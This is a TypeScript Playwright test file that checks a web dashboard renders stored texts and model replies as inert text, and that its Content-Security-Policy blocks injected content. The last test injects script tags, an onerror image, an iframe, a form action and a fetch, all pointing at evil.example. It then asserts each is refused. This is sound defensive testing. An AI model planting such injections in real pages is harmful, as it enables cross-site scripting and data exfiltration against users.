import {
  afterAll,
  afterEach,
  beforeAll,
  beforeEach,
  describe,
  expect,
  setDefaultTimeout,
  test,
} from 'bun:test'
import type { BrowserContext, Page } from 'playwright-core'
import { createAttackFixture, signInNewContext } from './attack-fixture'
import { plantScripts } from './planted'
import { findInjected, isOfCorpus, markdown, watched, type Watch } from './script-corpus'
import type { SignedIn } from './signed-in'
import { eventually } from '../../server/testing/eventually'

setDefaultTimeout(300_000)

let fixture: Awaited<ReturnType<typeof createAttackFixture>>
let dashboard: SignedIn
let address: string
let context: BrowserContext
let watch: Watch

beforeAll(async () => {
  fixture = await createAttackFixture()
  dashboard = fixture.dashboard
  address = dashboard.address
})
afterAll(() => fixture[Symbol.asyncDispose]())
beforeEach(async () => {
  const [entered, page] = await signInNewContext(dashboard)
  context = entered
  watch = await watched(context, address)
  // Only pages that are opened from now on are watched.
  await page.close()
})
afterEach(() => context.close())

/** All that a page shows as text, fields too. */
const shown = (page: Page) =>
  page.evaluate<string>(`document.body.innerText + [...document.querySelectorAll('input, textarea')]
    .map((field) => field.value).join(' ')`)

describe('B02: texts stay texts', () => {
  test('B02: a stored text runs nowhere, on no page, and fetches nothing', async () => {
    const paths = await plantScripts(dashboard, fixture.upstream)
    const found: string[] = []
    for (const path of ['/', ...paths]) {
      const one = await context.newPage()
      await one.goto(`${address}${path}`)
      await one.getByRole('heading').first().waitFor()
      await one.waitForLoadState('networkidle')
      // It shows some of it, or this test would say nothing. What a page loads may begin after a silence of its network.
      if (path !== '/') await eventually(async () => isOfCorpus(await shown(one)))
      found.push(...(await findInjected(one)))
      await one.close()
    }
    expect(found).toEqual([])
    expect(watch).toEqual({ ran: [], foreign: [], refused: [] })
  })

  test('B02 B06: a model’s text is shown, and neither runs nor loads a picture', async () => {
    const page = await context.newPage()
    await page.goto(`${address}/playground?model=sandbox%2Fecho`)
    const log = page.getByRole('log')
    for (const [index, text] of markdown.entries()) {
      await page.getByRole('textbox', { name: 'Message' }).fill(`${text}\n\nand **mark-${index}**`)
      await page.keyboard.press('Enter')
      await log.locator('strong', { hasText: `mark-${index}` }).waitFor()
      await page.getByRole('button', { name: 'Send' }).waitFor()
    }
    expect(await findInjected(page)).toEqual([])
    await page.reload()
    await log.locator('strong', { hasText: `mark-${markdown.length - 1}` }).waitFor()
    expect(await findInjected(page)).toEqual([])
    expect(await log.locator('img').count()).toBe(0)
    expect(watch).toEqual({ ran: [], foreign: [], refused: [] })
  })

  test('B02: the policy of a page blocks injected content', async () => {
    const page = await context.newPage()
    await page.goto(address)
    await page.evaluate(`document.body.insertAdjacentHTML('beforeend',
      '<img src="https://evil.example/i.png" onerror="tollgateRan(1)">' +
      '<iframe src="https://evil.example/f"></iframe>' +
      '<form id="away" action="https://evil.example/"></form>')
      const inline = document.createElement('script')
      inline.textContent = 'tollgateRan(2)'
      const away = document.createElement('script')
      away.src = 'https://evil.example/s.js'
      document.body.append(inline, away)
      void fetch('https://evil.example/x').catch(() => {})
      document.querySelector('#away').submit()`)
    const directives = ['connect-src', 'form-action', 'frame-src', 'img-src', 'script-src-elem']
    for (const directive of directives) {
      await eventually(() => watch.refused.some((one) => one.startsWith(directive)))
    }
    expect(watch.ran).toEqual([])
  })
})
